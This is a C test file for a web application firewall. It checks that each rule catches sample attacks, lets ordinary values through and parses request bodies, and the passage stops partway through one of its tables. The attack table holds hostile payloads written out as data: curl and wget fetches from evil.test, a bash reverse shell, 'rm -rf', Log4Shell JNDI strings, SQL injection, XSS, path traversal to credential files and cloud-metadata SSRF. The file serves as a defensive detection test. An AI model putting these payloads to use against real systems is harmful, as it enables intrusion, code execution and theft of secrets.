/* The request filter: attacks by rule, what must pass, bodies, and the filter's verdicts. */
#define FAKE_TEXTS
#include "ingress_fake.h"
#include "roles/ingress/filter/waf.h"
#include "roles/ingress/filter/waf_text.h"

#include <setjmp.h>
#include <stdio.h>

#include <cmocka.h>

/* Q query argument, N name, C cookie, U path, A agent, R referer, H header, B text body, J JSON, F file name, M method,
 * O host */
static enum waf_target target_of(char where)
{
	static const struct {
		char where;
		enum waf_target t;
	} all[] = { { 'Q', WAF_QUERY_ARG }, { 'P', WAF_BODY_ARG }, { 'N', WAF_ARG_NAME }, { 'C', WAF_COOKIE }, { 'U', WAF_URI },
		    { 'A', WAF_AGENT },	   { 'R', WAF_REFERER },   { 'H', WAF_HEADER },	  { 'B', WAF_BODY },   { 'F', WAF_FILENAME },
		    { 'M', WAF_METHOD },    { 'O', WAF_HOST } };
	for (size_t i = 0; i < ARRAY_LEN(all); i++)
		if (all[i].where == where)
			return all[i].t;
	abort();
}

static const struct {
	unsigned id;
	char where;
	const char *text, *header;
} attacks[] = {
	{ 1001, 'Q', "a%00.jpg" },
	{ 1002, 'Q', "100%" },
	{ 1008, 'M', "TRACE" },
	{ 1009, 'Q', "x%0d%0aLocation: https://evil.test" },
	{ 1010, 'Q', "x%0d%0aSet-Cookie: a=b" },
	{ 1010, 'U', "/x%0d%0aContent-Length: 0%0d%0a%0d%0aHTTP/1.1 200 OK" },
	{ 1011, 'P', "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: inner\r\n" },
	{ 1012, 'H', "bytes=0-1,1-2,2-3,3-4,4-5,5-6,6-7", "Range" },
	{ 1013, 'H', "gzip", "Content-Encoding" },
	{ 1014, 'O', "10.0.0.1:8080" },
	{ 1015, 'P', "me@a.test\r\nBcc: all@b.test" },
	{ 2001, 'A', "sqlmap/1.7#stable (https://sqlmap.org)" },
	{ 2001, 'A', "Mozilla/5.0 (Nikto/2.1.6)" },
	{ 2002, 'Q', "http://abc.burpcollaborator.net/x" },
	{ 2003, 'A', "python-requests/2.31" },
	{ 3001, 'Q', "../../../../etc/hosts" },
	{ 3001, 'Q', "..%2f..%2f..%2fx" },
	{ 3001, 'Q', "%252e%252e%252f%252e%252e%252fx" },
	{ 3001, 'Q', "..\\..\\windows\\x" },
	{ 3001, 'Q', "%c0%ae%c0%ae/%c0%ae%c0%ae/x" },
	{ 3001, 'Q', "....//....//etc" },
	{ 3001, 'U', "/static/..%5c..%5cx" },
	{ 3001, 'C', "/var/www/../../etc/x" },
	{ 3002, 'Q', "../secret" },
	{ 3003, 'Q', "/etc/passwd" },
	{ 3003, 'Q', "file=/var/run/secrets/kubernetes.io/serviceaccount/token" },
	{ 3003, 'Q', "C:\\Windows\\System32\\drivers" },
	{ 3004, 'Q', "/etc/hosts" },
	{ 3005, 'U', "/.git/config" },
	{ 3005, 'U', "/app/.env" },
	{ 3005, 'U', "/.env.production" },
	{ 3005, 'U', "/wp-config.php.bak" },
	{ 3005, 'U', "/actuator/heapdump" },
	{ 3006, 'U', "/index.php.bak" },
	{ 4001, 'Q', "http://169.254.169.254/latest/meta-data/" },
	{ 4001, 'Q', "http://metadata.google.internal/" },
	{ 4002, 'Q', "http://10.0.0.1/admin" },
	{ 4002, 'Q', "http://0x7f000001/" },
	{ 4003, 'Q', "php://filter/convert.base64-encode/resource=index.php" },
	{ 4003, 'Q', "file:///x" },
	{ 4003, 'Q', "gopher://127.0.0.1:6379/_x" },
	{ 4004, 'Q', "http://evil.test/shell.txt?" },
	{ 5001, 'Q', "x; curl http://evil.test/x.sh" },
	{ 5001, 'Q', "127.0.0.1 | nc -lvp 4444" },
	{ 5001, 'Q', "x & whoami" },
	{ 5001, 'Q', "$(wget -q evil.test/a)" },
	{ 5001, 'Q', "x;w'h'o\"am\"i" },
	{ 5001, 'Q', "x;curl${IFS}http://evil.test" },
	{ 5001, 'Q', "x;/usr/bin/wget http://evil.test" },
	{ 5002, 'Q', "x; cat /etc/x" },
	{ 5002, 'Q', "x;c\\at ../x" },
	{ 5002, 'Q', "| sleep 10" },
	{ 5002, 'Q', "&& rm -rf ." },
	{ 5002, 'Q', "$(python3 -c 'x')" },
	{ 5003, 'Q', "$(id)" },
	{ 5003, 'Q', "`id`" },
	{ 5003, 'Q', "x && ls" },
	{ 5004, 'Q', "x;id" },
	{ 5005, 'A', "() { :; }; echo vulnerable" },
	{ 5005, 'H', "() { :;}; /bin/x", "X-Any" },
	{ 5006, 'Q', "/bin/bash" },
	{ 5006, 'Q', "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1" },
	{ 5006, 'Q', "cmd.exe /c dir" },
	{ 5007, 'Q', "x%0awget http://evil.test/x" },
	{ 6001, 'P', "<?php echo 1;" },
	{ 6001, 'P', "<?= `id` ?>" },
	{ 6002, 'Q', "phpinfo()" },
	{ 6002, 'Q', "file_get_contents('x')" },
	{ 6003, 'Q', "system('ls')" },
	{ 6003, 'Q', "eval($_x)" },
	{ 6003, 'Q', "include('http://evil.test/x')" },
	{ 6004, 'Q', "$_GET[x]" },
	{ 6005, 'C', "O:8:\"stdClass\":1:{s:1:\"a\";}" },
	{ 6006, 'Q', "-d allow_url_include=1" },
	{ 6007, 'F', "shell.php" },
	{ 6007, 'F', "shell.php.jpg" },
	{ 6007, 'F', ".htaccess" },
	{ 7001, 'H', "${jndi:ldap://evil.test/a}", "X-Api-Version" },
	{ 7001, 'A', "${${lower:j}ndi:ldap://evil.test}" },
	{ 7001, 'Q', "${${::-j}${::-n}di:rmi://x}" },
	{ 7001, 'U', "/$%7Bjndi:dns://x%7D" },
	{ 7002, 'H', "%{(#_memberAccess['x']=true)}", "Content-Type" },
	{ 7002, 'N', "class.module.classLoader.resources.context.parent.pipeline.first.pattern" },
	{ 7002, 'Q', "java.lang.Runtime" },
	{ 7003, 'C', "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ" },
	{ 7004, 'Q', "{{7*7}}" },
	{ 7004, 'Q', "{{''.__class__.__mro__}}" },
	{ 7004, 'Q', "${7*7}" },
	{ 7004, 'Q', "<%= 7*7 %>" },
	{ 7004, 'Q', "#{7*7}" },
	{ 7004, 'Q', "*{T(java.lang.X)}" },
	{ 7004, 'Q', "{{constructor.constructor('alert')()}}" },
	{ 7005, 'P', "require('child_process').exec('id')" },
	{ 7006, 'N', "__proto__[admin]" },
	{ 7006, 'N', "__proto__" },
	{ 7007, 'Q', "__import__('os').system('id')" },
	{ 7008, 'B', "--- !ruby/object:Gem::Installer\ni: x" },
	{ 7009, 'B', "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///x\">]>" },
	{ 7009, 'B', "<?xml version=\"1.0\"?><!DOCTYPE r SYSTEM \"http://evil.test/x.dtd\">" },
	{ 7010, 'N', "password[$ne]" },
	{ 7010, 'N', "$where" },
	{ 7011, 'Q', "'; return true; var x='" },
	{ 7012, 'Q', "*)(uid=*))(|(uid=*" },
	{ 7012, 'Q', "x)(|(password=*)" },
	{ 7013, 'Q', "<!--#exec cmd=\"id\"-->" },
	{ 7014, 'B', "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"x\"/></a>" },
	{ 7015, 'Q', "' or count(/user/child::node())=1 or ''='" },
	{ 8001, 'Q', "<script>alert(1)</script>" },
	{ 8001, 'Q', "%3Cscript%20src%3D//evil.test%3E" },
	{ 8001, 'Q', "&lt;script&gt;" },
	{ 8001, 'Q', "\\u003cscript\\u003e" },
	{ 8001, 'Q', "%uff1cscript%uff1e" },
	{ 8001, 'Q', "%253Cscript%253E" },
	{ 8001, 'U', "/x%3Cscript%3E" },
	{ 8002, 'Q', "<img src=x onerror=alert(1)>" },
	{ 8002, 'Q', "\" onmouseover=\"x" },
	{ 8002, 'Q', "<svg/onload=x>" },
	{ 8002, 'Q', "<x\nonfocus\n=\nx tabindex=1>" },
	{ 8003, 'Q', "javascript:alert(1)" },
	{ 8003, 'Q', "<a href=\"java&#x09;script:alert(1)\">" },
	{ 8003, 'Q', "javascript://%0aalert(1)" },
	{ 8004, 'Q', "data:text/html;base64,PHNjcmlwdD4=" },
	{ 8005, 'Q', "<iframe srcdoc='x'>" },
	{ 8005, 'Q', "<meta http-equiv=refresh content=0>" },
	{ 8006, 'Q', "document.cookie" },
	{ 8006, 'Q', "String.fromCharCode(88,83,83)" },
	{ 8007, 'Q', "alert(1)" },
	{ 8007, 'Q', "confirm`1`" },
	{ 8007, 'Q', "setTimeout('x',1)" },
	{ 8008, 'Q', "<div style=\"width:expression(x)\">" },
	{ 8009, 'Q', "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]" },
	{ 8010, 'Q', "<iframe src=javascript:x>" },
	{ 8010, 'Q', "<svg><animate x>" },
	{ 8011, 'Q', "<iframe>" },
	{ 8012, 'Q', "<b>" },
	{ 8013, 'Q', "window.alert (x)" },
	{ 9001, 'Q', "1 UNION SELECT 1,2,3" },
	{ 9001, 'Q', "1'/**/union/**/all/**/select/**/null--" },
	{ 9001, 'Q', "-1+UNION+SELECT+user,pass+FROM+t" },
	{ 9001, 'U', "/item/1%20union%20select%201,2" },
	{ 9002, 'Q', "1' or '1'='1" },
	{ 9002, 'Q', "' OR 1=1 -- -" },
	{ 9002, 'Q', "\" or \"\"=\"" },
	{ 9002, 'Q', "x') and ('a'='a" },
	{ 9002, 'Q', "x' AnD 1 LIKE 1" },
	{ 9003, 'Q', "1 or 1=1" },
	{ 9003, 'Q', "1) or (2>1" },
	{ 9003, 'Q', "1/**/or/**/1=1" },
	{ 9003, 'Q', "1||1=1" },
	{ 9004, 'Q', "admin'--" },
	{ 9004, 'Q', "admin' #" },
	{ 9004, 'Q', "x')-- qPwE" },
	{ 9005, 'Q', "1; DROP TABLE users" },
	{ 9005, 'Q', "x'; insert into t values(1)--" },
	{ 9005, 'Q', "1;update users set admin=1" },
	{ 9005, 'Q', "1;exec master..xp_cmdshell" },
	{ 9006, 'Q', "(select table_name from information_schema.tables)" },
	{ 9006, 'Q', "1 and extractvalue(1,concat(0x7e,version()))" },
	{ 9007, 'Q', "1 and sleep(5)" },
	{ 9007, 'Q', "1;waitfor delay '0:0:5'" },
	{ 9007, 'Q', "benchmark(10000000,md5(1))" },
	{ 9008, 'Q', "select * from users" },
	{ 9008, 'Q', "(select password from users where id=1)" },
	{ 9009, 'Q', "1 order by 10--" },
	{ 9009, 'Q', "1' group by 3,4 having 1=1--" },
	{ 9010, 'Q', "concat(0x71,user())" },
	{ 9010, 'Q', "char(115,108)" },
	{ 9011, 'Q', "1 /*!50000union*/ x" },
	{ 9012, 'Q', "' or true--" },
	{ 9012, 'Q', "'||'x" },
	{ 9012, 'Q', "' and sleep(3) and 'x'='x" },
	{ 9013, 'Q', "1 and ascii(substr(x,1,1))>64" },
	{ 9013, 'Q', "1 and exists(select 1)" },
	{ 9014, 'Q', "O'Brien' or x" },
	{ 9015, 'Q', "version()" },
	{ 9016, 'Q', "5 -- x" },
	{ 9017, 'Q', "a'b'c'd'e'f'g'h'" },
	{ 9018, 'Q', "a'b'c'd'" },
};

static bool rule_matched(const struct waf_result *r, unsigned id)
{
	unsigned ids[WAF_RULES_MAX];
	size_t n = waf_matched(r, ids, WAF_RULES_MAX);
	for (size_t i = 0; i < n; i++)
		if (ids[i] == id)
			return true;
	return false;
}

static const struct waf_rule *rule_of(unsigned id)
{
	for (size_t i = 0; i < n_waf_rules; i++)
		if (waf_rules[i].id == id)
			return &waf_rules[i];
	return NULL;
}

static void each_rule_finds_its_attacks(void **state)
{
	(void)state;
	size_t missed = 0;
	for (size_t i = 0; i < ARRAY_LEN(attacks); i++) {
		const struct waf_rule *rule = rule_of(attacks[i].id);
		assert_non_null(rule);
		struct waf_result r;
		waf_result_init(&r, rule->paranoia);
		waf_inspect(&r, target_of(attacks[i].where), str_of(attacks[i].header), str_of(attacks[i].text), WAF_PLUS_IS_BLANK);
		if (!rule_matched(&r, attacks[i].id)) {
			print_error("rule %u does not see %s\n", attacks[i].id, attacks[i].text);
			missed++;
		}
		/* One level below it is not asked. */
		if (rule->paranoia > 1) {
			waf_result_init(&r, rule->paranoia - 1u);
			waf_inspect(&r, target_of(attacks[i].where), str_of(attacks[i].header), str_of(attacks[i].text), WAF_PLUS_IS_BLANK);
			assert_false(rule_matched(&r, attacks[i].id));
		}
	}
	assert_int_equal(missed, 0);
}

static void every_rule_has_an_attack(void **state)
{
	(void)state;
	size_t without = 0;
	for (size_t i = 0; i < n_waf_rules; i++) {
		bool found = waf_rules[i].fact != WAF_NO_FACT;
		for (size_t k = 0; k < ARRAY_LEN(attacks); k++)
			found |= attacks[k].id == waf_rules[i].id;
		if (!found)
			print_error("no sample for %u\n", waf_rules[i].id), without++;
		for (size_t k = 0; k < i; k++)
			assert_int_not_equal(waf_rules[k].id, waf_rules[i].id);
		/* Phrases are compared with small letters. */
		for (const char *const *p = waf_rules[i].phrases; p != NULL && *p != NULL; p++)
			for (const char *c = *p; *c != '\0'; c++)
				assert_false(*c >= 'A' && *c <= 'Z');
		assert_true(waf_rules[i].paranoia >= 1 && waf_rules[i].paranoia <= 4 && waf_rules[i].what != NULL);
		assert_true(waf_rules[i].fact != WAF_NO_FACT || (waf_rules[i].phrases != NULL && waf_rules[i].targets != 0));
	}
	assert_int_equal(without, 0);
}

/* What people and applications send. None of it may be refused at level 1. */
static const struct {
	char where;
	const char *text, *header;
} harmless[] = {
	{ 'Q', "O'Brien" }, { 'Q', "it's a \"nice\" day" }, { 'Q', "rock 'n' roll" }, { 'Q', "fish & chips" }, { 'Q', "R&D; marketing" },
	{ 'Q', "European Union select committee on trade" }, { 'Q', "select a colour from the list" }, { 'Q', "drop the table off at 5" },
	{ 'Q', "where to buy and how to sell" }, { 'Q', "Tom & Jerry or Bugs" }, { 'Q', "1 and 2" }, { 'Q', "5' or 6'" }, { 'Q', "5' 11\"" },
	{ 'Q', "a -- b" }, { 'Q', "C# and F#" }, { 'Q', "#hashtag" }, { 'Q', "#1" }, { 'Q', "50% off" }, { 'Q', "a=b&c=d" },
	{ 'Q', "title:\"war and peace\" AND year>2000" }, { 'Q', "project = ABC and status = open" }, { 'Q', "Price gt 5 and Name eq 'x'" },
	{ 'Q', "contains(Name,'x') or startswith(Name,'y')" }, { 'Q', "name,-created_at" }, { 'Q', "id|name|email" }, { 'Q', "id;name" },
	{ 'Q', "https://example.com/path?x=1&y=2#top" }, { 'Q', "http://example.com/" }, { 'Q', "user@example.com" }, { 'Q', "+49 (0)30 123-456" },
	{ 'Q', "2026-11-21T13:24:00+01:00" }, { 'Q', "{\"a\":[1,2,{\"b\":null}]}" }, { 'Q', "[1,2,3]" }, { 'Q', "a<b" }, { 'Q', "x > y and y < z" },
	{ 'Q', "I <3 you" }, { 'Q', "<- back" }, { 'Q', "if (a && b) { return c; }" }, { 'Q', "f(x) = (a+b)*(c-d)" }, { 'Q', "(a)(b)" },
	{ 'Q', "C:\\Users\\ann\\file.txt" }, { 'Q', "images/../logo.png" }, { 'Q', "../" }, { 'Q', "/home/ann/../bob/x.txt" }, { 'Q', "..." }, { 'Q', "a/b/c" },
	{ 'Q', "JavaScript: The Good Parts" }, { 'Q', "JavaScript: basics (part 1)" }, { 'Q', "please confirm (1) your order" },
	{ 'Q', "alert the press" }, { 'Q', "sleep well" }, { 'Q', "benchmark results 2026" }, { 'Q', "evaluate this" }, { 'Q', "system (operating)" },
	{ 'Q', "exec summary" }, { 'Q', "php vs python & perl" }, { 'Q', "wget and curl" }, { 'Q', "He ran; find out why" }, { 'Q', "Stop | echo chamber" },
	{ 'Q', "cat & dog" }, { 'Q', "Cats; dogs" }, { 'Q', "ping me; type your name" }, { 'Q', "sum | head count" }, { 'Q', "${name}" }, { 'Q', "{{ user.name }}" },
	{ 'Q', "${a ? b : c}" }, { 'Q', "$(document).ready" }, { 'Q', "$5 (five)" }, { 'Q', "100 $" }, { 'Q', "{% if x %}" }, { 'Q', "order by mail" },
	{ 'Q', "group by age" }, { 'Q', "sort=price order by name" }, { 'Q', "between 5 and 10" }, { 'Q', "not null" }, { 'Q', "true or false" },
	{ 'Q', "'quoted' -- he said" }, { 'Q', "union" }, { 'Q', "union square" }, { 'Q', "select" }, { 'Q', "insert coin into slot" },
	{ 'Q', "delete from cart" }, { 'Q', "update profile set name" }, { 'Q', "create table tennis club" }, { 'Q', "shutdown at noon" }, { 'Q', "grant all wishes" },
	{ 'Q', "char(acter)" }, { 'Q', "concat strings" }, { 'Q', "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==" }, { 'Q', "data: see below" },
	{ 'Q', "onion rings = tasty" }, { 'Q', "one=1" }, { 'Q', "on sale = true" }, { 'Q', "location: Berlin" }, { 'Q', "cookie=consent" },
	{ 'Q', "background: url(x.png)" }, { 'Q', "file.tar.gz" }, { 'Q', "report (final).docx" }, { 'Q', "a;b;c" }, { 'Q', "a,b,c" }, { 'Q', "* * * * *" },
	{ 'Q', "-1" }, { 'Q', "1e-5" }, { 'Q', "0x1F" }, { 'Q', "~/notes" }, { 'Q', "!important" }, { 'Q', "what?!" }, { 'Q', "日本語 テキスト" }, { 'Q', "naïve café" },
	{ 'Q', "😀 emoji" }, { 'Q', "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl" }, { 'Q', "550e8400-e29b-41d4-a716-446655440000" },
	{ 'Q', "d41d8cd98f00b204e9800998ecf8427e" }, { 'Q', "MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA" }, { 'Q', "SGVsbG8gd29ybGQhIFRoaXMgaXMgYSB0ZXN0Lg==" },
	{ 'Q', "now() - interval '1 day'" }, { 'Q', "rate(http_requests_total{job=\"api\"}[5m])" }, { 'Q', "sum by (pod) (x) or vector(0)" },
	{ 'Q', "{app=\"web\"} |= \"error\" | json" }, { 'Q', "app=web,tier!=db" }, { 'Q', "metadata.name=foo" }, { 'Q', "level:error AND service:\"api\"" },
	{ 'P', "Dear Sir,\r\n\r\nI'd like to order:\r\n- 2 apples\r\n- 1 pear; please call.\r\nLocation: Berlin\r\nThanks & regards" },
	{ 'P', "# Title\n\nSome *markdown* with `code`, [link](https://a.test) & \"quotes\".\n\n> quote\n" },
	{ 'P', "Run `ls -la` or `id` in a terminal; then press | to split." }, { 'P', "The EU's \"Green Deal\" -- and what follows" },
	{ 'P', "We offer: 1) delivery (free) 2) returns (30 days)" }, { 'P', "From: ann\nTo: bob\nSubject: lunch" },
	{ 'P', "SELECT is a keyword; so is FROM." }, { 'P', "password: S3cr3t!'#;--x" }, { 'P', "p@ss'w\"or`d$(" },
	{ 'N', "filter[price][gte]" }, { 'N', "items[0].name" }, { 'N', "user.email" }, { 'N', "$filter" }, { 'N', "$top" }, { 'N', "$orderby" }, { 'N', "_method" },
	{ 'N', "utf8=✓" }, { 'N', "@type" }, { 'N', "x-api-key" },
	{ 'C', "GA1.2.1234567890.1234567890" }, { 'C', "s%3AabcDEF123.%2Bxyz%2F%3D" }, { 'C', "{\"consent\":true,\"ts\":123}" },
	{ 'C', "%7B%22distinct_id%22%3A%20%22x%22%7D" }, { 'C', "a:2:{s:1:\"x\";i:1;}" },
	{ 'U', "/" }, { 'U', "/index.php" }, { 'U', "/api/v1/users/42/orders" }, { 'U', "/a%20b/c%2Fd" }, { 'U', "/.well-known/acme-challenge/abc" },
	{ 'U', "/wp-content/themes/x/style.css" }, { 'U', "/wp-login.php" }, { 'U', "/select/from/list" }, { 'U', "/union/select-board" }, { 'U', "/.environment" },
	{ 'U', "/files/report.v2.tar.gz" }, { 'U', "/@scope/package" }, { 'U', "/~ann/" }, { 'U', "/docs/etc/config" }, { 'U', "/actuator/health" }, { 'U', "/.github-logo" },
	{ 'A', "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36" },
	{ 'A', "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1" },
	{ 'A', "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)" }, { 'A', "curl/8.5.0" }, { 'A', "kube-probe/1.31" },
	{ 'A', "Go-http-client/2.0" }, { 'A', "Prometheus/2.53.0" }, { 'A', "python-requests/2.31.0" }, { 'A', "PostmanRuntime/7.39.0" },
	{ 'R', "https://www.google.com/search?q=it's+a+test&hl=en" }, { 'R', "https://a.test/?next=/home#x" },
	{ 'R', "https://a.test/search?q=select+shoes+from+shop&sort=price" },
	{ 'H', "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "Accept" }, { 'H', "\"Chromium\";v=\"131\", \"Not_A Brand\";v=\"24\"", "Sec-CH-UA" },
	{ 'H', "gzip, deflate, br", "Accept-Encoding" }, { 'H', "bytes=0-1023", "Range" }, { 'H', "multipart/form-data; boundary=----WebKitFormBoundaryAbC", "Content-Type" },
	{ 'B', "<?xml version=\"1.0\" encoding=\"UTF-8\"?><note><to>Tove</to><body>Don't & \"x\"</body></note>" },
	{ 'B', "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><m:Get xmlns:m=\"http://a.test/x\"/></soap:Body></soap:Envelope>" },
	{ 'B', "query { user(id: 1) { name, posts(first: 10) { title } } }" }, { 'F', "holiday (1).jpg" }, { 'F', "Bob's notes.php-tips.txt" }, { 'F', "setup.exe" },
	{ 'M', "GET" }, { 'M', "PATCH" }, { 'M', "PROPFIND" }, { 'O', "a.test:8080" },
};

static void harmless_values_pass(void **state)
{
	(void)state;
	size_t wrong = 0;
	for (size_t i = 0; i < ARRAY_LEN(harmless); i++) {
		struct waf_result r;
		waf_result_init(&r, 1);
		waf_inspect(&r, target_of(harmless[i].where), str_of(harmless[i].header), str_of(harmless[i].text), WAF_PLUS_IS_BLANK);
		if (r.score >= WAF_THRESHOLD) {
			unsigned ids[4] = { 0 };
			waf_matched(&r, ids, 4);
			print_error("rule %u refuses %s\n", ids[0], harmless[i].text);
			wrong++;
		}
	}
	assert_int_equal(wrong, 0);
}

/* Higher levels do refuse some of that: but not most. */
static void higher_levels_are_stricter(void **state)
{
	(void)state;
	size_t refused[4] = { 0 };
	for (unsigned level = 1; level <= 4; level++)
		for (size_t i = 0; i < ARRAY_LEN(harmless); i++) {
			struct waf_result r;
			waf_result_init(&r, level);
			waf_inspect(&r, target_of(harmless[i].where), str_of(harmless[i].header), str_of(harmless[i].text), WAF_PLUS_IS_BLANK);
			refused[level - 1] += r.score >= WAF_THRESHOLD;
		}
	print_message("of %zu harmless values refused at level 1 to 4: %zu %zu %zu %zu\n", ARRAY_LEN(harmless), refused[0], refused[1],
		      refused[2], refused[3]);
	assert_true(refused[0] == 0 && refused[1] < ARRAY_LEN(harmless) / 8 && refused[1] <= refused[2] && refused[2] <= refused[3]);
}

/* ---- forms ---- */

static void texts(void **state)
{
	(void)state;
	static const struct {
		const char *in, *text;
		bool plus;
	} rows[] = {
		{ "A+b%20C", "a b c", true },	  { "a+b", "a+b" },	     { "%2541", "a" },	     { "%u0041%uFF22", "ab" },
		{ "&#x41;&#66;&lt;", "ab<" },	  { "\\x41\\u0042\\z", "ab\\z" }, { "a\t\n b", "a b" },   { "a%00b", "ab" },
		{ "\xc0\xae\xc0\xaf", "./" },	  { "\xef\xbc\x9c", "<" },   { "%zz%", "%zz%" },     { "&amp;lt;", "&lt;" },
		{ "&;&#;&#x;&unknown;", "&;&#;&#x;&unknown;" },
	};
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		char lines[64], text[64];
		unsigned seen;
		size_t n = waf_text_lines(str_of(rows[i].in), rows[i].plus, lines, &seen);
		n = waf_text_compress((struct str){ lines, n }, text);
		assert_int_equal(n, strlen(rows[i].text));
		assert_memory_equal(text, rows[i].text, n);
	}
	char out[64];
	size_t n = waf_text_sql(STR("a/*x*/b /*y"), out);
	assert_true(str_eq((struct str){ out, n }, STR("a b ")));
	n = waf_text_shell(STR("c'a't${ifs}\\x$@^y"), out);
	assert_true(str_eq((struct str){ out, n }, STR("cat xy")));
	assert_true(waf_is_plain(STR("abc-123")) && !waf_is_plain(STR("a.b")) && !waf_is_plain(STR("0123456789012345678901234567890123456")));
}

/* ---- bodies ---- */

static void setup(struct fake *f, const char *method, const char *url, enum waf_mode mode)
{
	fake_init(f, method, url);
	f->set.waf = mode;
	f->set.waf_paranoia = 1;
	fake_header(f, "User-Agent", "curl/8.5.0");
}

/* In pieces of `piece` bytes; the body that went on is in *out. */
static enum filter_verdict send_body(struct fake *f, const char *type, struct str body, size_t piece, struct buf *out)
{
	fake_header(f, "Content-Type", type);
	f->x.req.has_body = true;
	enum filter_verdict v = fake_request(f, &filter_waf);
	do {
		struct str data = { body.ptr, MIN(piece, body.len) };
		body = (struct str){ body.ptr + data.len, body.len - data.len };
		if (v == FILTER_NEXT)
			v = fake_request_body(f, &filter_waf, &data, body.len == 0);
		if (v == FILTER_NEXT && out != NULL)
			assert_int_equal(buf_put_str(out, data), 0);
	} while (v == FILTER_NEXT && body.len > 0);
	return v;
}

#define PART(name) "--B\r\nContent-Disposition: form-data; name=\"" name "\"\r\n\r\n"

static const struct {
	const char *type, *body;
	bool refused;
} bodies[] = {
	{ "application/x-www-form-urlencoded", "a=1&b=it's+fine&c=%E2%9C%93", false },
	{ "application/x-www-form-urlencoded", "a=1&b=1'+or+'1'%3D'1", true },
	{ "application/x-www-form-urlencoded; charset=utf-8", "a=1&<script>=1", true },
	{ "application/json", "{\"a\":[1,\"it's fine\",null],\"b\":{\"c\":\"d\"}}", false },
	{ "application/json", "{\"a\":{\"b\":[\"x\",\"1' or '1'='1\"]}}", true },
	{ "application/json", "{\"a\":\"\\u003cscript\\u003e\"}", true },
	{ "application/json", "{\"user\":{\"$ne\":null}}", true },
	{ "application/json", "{\"__proto__\" : {\"admin\":true}}", true },
	{ "application/vnd.api+json", "[\"<script>\"]", true },
	{ "application/json", "{\"a\":\"un", false }, /* three points */
	{ "application/json", "{\"a\":\"<script>", true },
	{ "multipart/form-data; boundary=B", PART("a") "it's fine\r\n--B--\r\n", false },
	{ "multipart/form-data; boundary=\"B\"", PART("a") "\r\n--B--\r\n", false },
	{ "multipart/form-data; boundary=B", PART("a") "x\r\n" PART("b") "<script>\r\n--B--\r\n", true },
	{ "multipart/form-data; boundary=B", PART("<script>") "x\r\n--B--\r\n", true },
	{ "multipart/form-data; boundary=B", PART("f\"; filename=\"a.png") "<script>\r\n--B--\r\n", false },
	{ "multipart/form-data; boundary=B", PART("f\"; filename=\"a.php") "x\r\n--B--\r\n", true },
	{ "multipart/form-data; boundary=B", PART("f\"; filename=\"") "<script>alert(1)</script>\r\n--B--\r\n", true },
	{ "multipart/form-data; boundary=B", PART("f\"; filename*=\"utf-8''") "<script>alert(1)</script>\r\n--B--\r\n", true },
	{ "multipart/form-data; boundary=B", PART("f\"; filename=\"") "\r\n--B--\r\n", false },
	{ "multipart/form-data; boundary=B", PART("a") "x\r\n", true },
	{ "multipart/form-data; boundary=C", PART("a") "x\r\n--B--\r\n", true },
	{ "multipart/form-data", PART("a") "x\r\n--B--\r\n", true },
	{ "multipart/form-data; boundary=B", "--B\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Disposition: form-data; "
					     "name=\"b\"\r\n\r\nx\r\n--B--\r\n", true },
	{ "text/xml", "<a>it's fine</a>", false },
	{ "text/xml", "<!DOCTYPE a [<!ENTITY x SYSTEM \"y\">]>", true },
	{ "application/octet-stream", "<script>", false },
	{ "application/grpc", "<script>", false },
};

static void bodies_are_taken_apart(void **state)
{
	(void)state;
	static const size_t pieces[] = { 1, 7, 100000 };
	for (size_t i = 0; i < ARRAY_LEN(bodies); i++)
		for (size_t k = 0; k < ARRAY_LEN(pieces); k++) {
			struct fake f;
			struct buf out;
			buf_init(&out, 1 << 20);
			setup(&f, "POST", "https://a.test/", WAF_BLOCK);
			enum filter_verdict v = send_body(&f, bodies[i].type, str_of(bodies[i].body), pieces[k], &out);
			if ((v == FILTER_ANSWERED) != bodies[i].refused)
				print_error("%s: %s\n", bodies[i].type, bodies[i].body);
			assert_int_equal(v, bodies[i].refused ? FILTER_ANSWERED : FILTER_NEXT);
			assert_int_equal(f.status, bodies[i].refused ? 403 : 0);
			/* All of it goes on, or nothing. */
			assert_true(str_eq_c(buf_str(&out), bodies[i].refused ? "" : bodies[i].body));
			buf_done(&out);
			fake_done(&f);
		}
}

static void long_bodies_pass_behind_the_limit(void **state)
{
	(void)state;
	struct buf body, out;
	struct fake f;
	buf_init(&body, 4 << 20);
	buf_puts(&body, "a=");
	while (body.len < 3 * WAF_BODY_BYTES_MAX)
		buf_puts(&body, "0123456789");
	buf_puts(&body, "&b=<script>");
	buf_init(&out, 4 << 20);
	setup(&f, "POST", "https://a.test/", WAF_BLOCK);
	assert_int_equal(send_body(&f, "application/x-www-form-urlencoded", buf_str(&body), 5000, &out), FILTER_NEXT);
	assert_true(str_eq(buf_str(&out), buf_str(&body)));
	fake_done(&f);
	/* Within it: refused before a byte goes on. */
	memcpy(body.ptr + WAF_BODY_BYTES_MAX - 20, "&b=<script>", 11);
	buf_clear(&out);
	setup(&f, "POST", "https://a.test/", WAF_BLOCK);
	assert_int_equal(send_body(&f, "application/x-www-form-urlencoded", buf_str(&body), 5000, &out), FILTER_ANSWERED);
	assert_int_equal(out.len, 0);
	fake_done(&f);
	buf_done(&body);
	buf_done(&out);
}

/* A body that is cut off by our limit is no malformed one. */
static void half_bodies(void **state)
{
	(void)state;
	static const struct {
		enum waf_body_type type;
		const char *body;
		unsigned fact_rule;
